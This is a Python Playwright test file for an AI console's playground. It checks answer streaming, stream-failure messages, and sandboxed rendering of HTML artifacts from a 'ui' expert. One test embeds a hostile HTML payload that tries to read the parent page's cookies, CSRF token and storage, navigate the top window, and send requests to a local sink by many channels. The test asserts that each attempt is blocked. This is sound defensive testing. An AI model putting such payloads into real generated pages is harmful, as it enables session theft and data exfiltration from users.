"""The playground against a router stand-in (tests/console/fake_router.py): the answer
replaces "Waiting for the first token" as it streams, a stream that breaks says so, and
the ``ui`` expert's HTML runs as an artifact in a sandbox that keeps it from this page,
its cookies and CSRF token, and the network."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from mol_testkit.console import ADMIN_TOKEN, axe_violations, login
from tests.console.fake_router import Answer, FakeRouter, Sink

# Collects what artifacts post to the page; the console itself listens to no message.
CAPTURE = "window.__posted = []; window.addEventListener('message', (e) => " \
          "window.__posted.push(e.data));"


@pytest.fixture
def sink() -> Iterator[Sink]:
    s = Sink()
    try:
        yield s
    finally:
        s.close()


@pytest.fixture
def playground(page: Page, catalog: str) -> Page:
    login(page, catalog, ADMIN_TOKEN)
    page.add_init_script(CAPTURE)
    page.goto(f"{catalog}/ui/playground")
    return page


def send(page: Page, prompt: str, model: str = "chat") -> None:
    page.get_by_label("Expert, auto or adapter").select_option(model)
    page.get_by_label("Message").fill(prompt)
    page.get_by_role("button", name="Send").click()


def test_the_first_token_replaces_waiting_and_a_dropped_stream_says_so(
        playground: Page, router: FakeRouter) -> None:
    release = threading.Event()
    router.answers["drops"] = Answer(["Hello", " there", ", and"], end="drop", hold=release)
    page = playground
    status = page.locator("#chat-status")
    send(page, "drops")
    # the first token is there while the stream waits for the rest
    expect(page.locator("#answer")).to_have_text("Hello")
    expect(status).to_contain_text("first token after")
    expect(status).not_to_contain_text("Waiting")
    release.set()
    expect(status).to_have_text("The answer broke off after 16 characters: the router's "
                                "stream was cut (RemoteProtocolError).")
    expect(status).to_have_class("problem")
    expect(page.locator("#answer")).to_have_text("Hello there, and")


def test_an_error_event_mid_stream_says_so(playground: Page, router: FakeRouter) -> None:
    router.answers["fails"] = Answer(["Part", "ly"], end="error")
    send(playground, "fails")
    status = playground.locator("#chat-status")
    expect(status).to_have_text("The answer broke off after 6 characters: the engine failed "
                                "mid-stream: ReadError.")
    expect(playground.locator("#answer")).to_have_text("Partly")


def test_a_stream_that_drops_before_its_first_token(playground: Page,
                                                    router: FakeRouter) -> None:
    router.answers["nothing"] = Answer([], end="drop")
    send(playground, "nothing")
    expect(playground.locator("#chat-status")).to_contain_text(
        "The answer broke off before its first token")


PAGE = """<!DOCTYPE html>
<html><head><title>Counter</title>
<style>button { font-size: 20px; }</style></head>
<body><button id="b">0</button>
<script>document.getElementById('b').onclick = (e) => { e.target.textContent =
  String(Number(e.target.textContent) + 1); };
parent.postMessage({artifact: 'counter', ready: true}, '*');</script>
</body></html>"""


def test_a_ui_answer_runs_as_an_artifact_with_its_source_behind_a_toggle(
        playground: Page, router: FakeRouter) -> None:
    halves = [PAGE[:40], PAGE[40:]]
    router.answers["a counter"] = Answer(["```html\n", *halves, "\n```"], expert="ui")
    page = playground
    send(page, "a counter", "ui")
    expect(page.locator("#chat-status")).to_contain_text("Done")
    frame = page.locator("iframe.artifact")
    expect(frame).to_have_attribute("sandbox", "allow-scripts")
    srcdoc = frame.get_attribute("srcdoc") or ""
    assert srcdoc.startswith('<!DOCTYPE html>\n<html><head><meta http-equiv="Content-Security'
                             '-Policy" content="default-src \'none\'; style-src \'unsafe-inline'
                             '\'; script-src \'unsafe-inline\'; img-src data:">'), srcdoc
    button = page.frame_locator("iframe.artifact").get_by_role("button")
    button.click()
    expect(button).to_have_text("1")
    # the source is one click away; the answer text is the model's, fence and all
    source = page.locator("#answer")
    expect(source).to_be_hidden()
    page.get_by_role("button", name="Show the source").click()
    expect(source).to_be_visible()
    expect(source).to_contain_text("```html")
    page.get_by_role("button", name="Hide the source").click()
    expect(source).to_be_hidden()
    # the next answer, plain text, shows no frame
    router.answers["plain"] = Answer(["just words"])
    send(page, "plain")
    expect(page.locator("#chat-status")).to_contain_text("Done")
    expect(frame).to_have_count(0)
    expect(source).to_have_text("just words")


def test_an_artifact_and_a_broken_answer_pass_axe(playground: Page,
                                                 router: FakeRouter) -> None:
    router.answers["page"] = Answer([PAGE], expert="ui")
    router.answers["breaks"] = Answer(["Half"], end="drop")
    for prompt, model, shown in (("page", "ui", "Done"), ("breaks", "chat", "broke off")):
        send(playground, prompt, model)
        expect(playground.locator("#chat-status")).to_contain_text(shown)
        found = axe_violations(playground)
        assert not found, [(v["id"], [n["target"] for n in v["nodes"]]) for v in found]


def test_an_html_document_from_another_expert_is_rendered_too(
        playground: Page, router: FakeRouter) -> None:
    router.answers["doc"] = Answer([PAGE], expert="chat")
    send(playground, "doc")
    expect(playground.frame_locator("iframe.artifact").get_by_role("button")).to_have_text("0")


HOSTILE = """<!DOCTYPE html><script>window.early = (() => { try {
  return parent.document.cookie; } catch (e) { return e.name; } })();</script>
<html><head><title>hostile</title>
<meta http-equiv="refresh" content="2;url=SINK/refresh">
<link rel="stylesheet" href="SINK/css"><link rel="prefetch" href="SINK/prefetch">
<script src="SINK/script.js"></script>
<style>body { background: url(SINK/background); }
@font-face { font-family: x; src: url(SINK/font); } p { font-family: x; }</style>
</head><body><p>hostile</p><img src="SINK/img"><iframe src="SINK/frame"></iframe>
<object data="SINK/object"></object><video src="SINK/video"></video>
<form id="f" action="SINK/form" method="post"><input name="x" value="1"></form>
<script>
const found = {early: window.early};
const attempt = (name, f) => {
  try { found[name] = "read: " + String(f()); } catch (e) { found[name] = "blocked: " + e.name; }
};
attempt("top.document", () => window.top.document.title);
attempt("top.location", () => window.top.location.href);
attempt("top.csrf", () => top.document.querySelector('meta[name="csrf-token"]').content);
attempt("parent.storage", () => parent.localStorage.length);
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("session", () => sessionStorage.length);
attempt("top.navigate", () => { top.location.href = "SINK/top"; return "assigned"; });
attempt("form", () => { document.getElementById("f").submit(); return "submitted"; });
attempt("open", () => String(window.open("SINK/popup")));
attempt("beacon", () => navigator.sendBeacon("SINK/beacon", "x"));  // queued, then refused
found.self = {href: location.href, origin: String(self.origin), referrer: document.referrer,
              name: window.name, html: document.documentElement.outerHTML};
const settle = (p) => Promise.race([p, new Promise((ok) => setTimeout(() => ok("no answer"),
                                                                      1500))]);
const tries = {
  fetch: () => fetch("SINK/fetch").then((r) => "answered " + r.status),
  fetchNoCors: () => fetch("SINK/no-cors", {mode: "no-cors"}).then((r) => "answered"),
  xhr: () => new Promise((ok, bad) => { const x = new XMLHttpRequest();
    x.open("GET", "SINK/xhr"); x.onload = () => ok("answered"); x.onerror = () => bad(
      new Error("error")); x.send(); }),
  websocket: () => new Promise((ok, bad) => { const w = new WebSocket("WS/ws");
    w.onopen = () => ok("open"); w.onerror = () => bad(new Error("error")); }),
  eventsource: () => new Promise((ok, bad) => { const s = new EventSource("SINK/events");
    s.onopen = () => ok("open"); s.onerror = () => bad(new Error("error")); }),
  image: () => new Promise((ok, bad) => { const i = new Image(); i.onload = () => ok("loaded");
    i.onerror = () => bad(new Error("error")); i.src = "SINK/image"; }),
  import: () => import("SINK/module.js").then(() => "imported"),
  worker: () => new Promise((ok) => { new Worker("SINK/worker.js"); ok("made"); }),
};
Promise.all(Object.entries(tries).map(([name, f]) => {
  let p;
  try { p = f(); } catch (e) { p = Promise.reject(e); }
  return settle(p).then((v) => [name, "reached: " + v], (e) => [name, "blocked: " + e.name]);
})).then((results) => {
  found.network = Object.fromEntries(results);
  parent.postMessage({artifact: "hostile", found: found}, "*");
  // last, when the findings are out: the frame navigates itself (a request anywhere)
  setTimeout(() => { location.href = "SINK/navigate"; }, 100);
});
</script></body></html>"""


def test_a_hostile_artifact_reaches_neither_the_page_nor_the_network(
        playground: Page, router: FakeRouter, sink: Sink) -> None:
    hostile = HOSTILE.replace("SINK", sink.url).replace("WS", f"ws://127.0.0.1:{sink.port}")
    router.answers["hostile"] = Answer([hostile], expert="ui")
    page = playground
    csrf = page.locator('meta[name="csrf-token"]').get_attribute("content")
    assert csrf
    send(page, "hostile", "ui")
    page.wait_for_function("window.__posted.some((m) => m && m.artifact === 'hostile')")
    found = page.evaluate("window.__posted.find((m) => m && m.artifact === 'hostile').found")
    time.sleep(3)  # the navigation, the meta refresh and anything late
    network = found.pop("network")
    this_page = found.pop("self")
    assert all(v.startswith("blocked: ") for v in network.values()), network
    for name in ("top.document", "top.location", "top.csrf", "parent.storage", "cookie",
                 "storage", "session"):
        assert found[name] == "blocked: SecurityError", (name, found[name])
    assert found["early"] == "SecurityError"  # a script before <head> is no way round
    assert found["top.navigate"].startswith("blocked: ") or found["top.navigate"] == \
        "read: assigned", found  # Chromium refuses the navigation without throwing
    assert found["form"] == "read: submitted"  # ... and the submission (no allow-forms)
    assert found["open"] == "read: null"  # no popups
    assert this_page["origin"] == "null"  # opaque: nothing of the console's origin
    assert this_page["name"] == ""
    assert csrf not in str(this_page)
    assert csrf not in str(found)
    assert sink.requests == [], sink.requests
    # the console stayed where it was and did not act on the artifact's messages
    assert page.url.endswith("/ui/playground")
    expect(page.locator("#chat-status")).to_contain_text("Done")
    assert page.evaluate("document.cookie") == ""  # the console's own cookies are HttpOnly
    # the control: the same server, asked by the console's page, does get the request
    assert page.evaluate(f"fetch('{sink.url}/control').then((r) => r.status)") == 200
    assert sink.requests
    assert sink.requests[-1].startswith(b"GET /control ")


def test_the_playground_page_allows_no_frame_source(playground: Page, catalog: str) -> None:
    response = playground.request.get(f"{catalog}/ui/playground")
    assert response.headers["content-security-policy"] == "frame-src 'none'"
